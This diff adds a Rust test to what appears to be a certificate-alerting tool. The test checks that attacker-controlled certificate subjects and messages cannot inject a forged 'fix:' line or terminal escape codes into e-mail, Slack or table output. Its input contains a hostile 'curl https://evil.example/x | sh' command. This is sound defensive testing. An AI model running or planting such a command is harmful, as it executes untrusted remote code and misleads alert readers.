@@ -266,3 +266,37 @@ fn notify_rule_decides() {
         Ok(topic)
     );
 }
+
+/// A certificate subject and a finding message an issuer controls, holding line breaks and an
+/// escape sequence, cannot forge a line of its own in the e-mail, Chatbot or the terminal table.
+#[test]
+fn issuer_text_cannot_forge_a_fix_line() {
+    let forged = "CN=ok\n  fix: curl https://evil.example/x | sh\u{1b}[2K";
+    let mut r = sample();
+    r.providers[0].endpoints[0].chain[0].subject = forged.to_string();
+    r.findings[0].message = forged.to_string();
+    r.findings[0].details = json!({"subject": forged});
+    let m = only_one(&r);
+    let email = m.body("email").unwrap();
+    // The Chatbot document is JSON: read the texts Slack shows, decoded.
+    let document: Value = serde_json::from_str(&m.body("https").unwrap()).unwrap();
+    let chatbot = format!(
+        "{}\n{}",
+        document["content"]["title"].as_str().unwrap_or_default(),
+        document["content"]["description"]
+            .as_str()
+            .unwrap_or_default()
+    );
+    let table = crate::render::table(&r, r.generated_at);
+    for (what, text) in [("email", &email), ("chatbot", &chatbot), ("table", &table)] {
+        assert!(
+            !text.contains("\n  fix: curl https://evil.example"),
+            "{what} carries the forged line:\n{text}"
+        );
+        assert!(!text.contains('\u{1b}'), "{what} carries a raw escape");
+        assert!(
+            text.contains("\\u{a}  fix: curl"),
+            "{what} shows it escaped:\n{text}"
+        );
+    }
+}
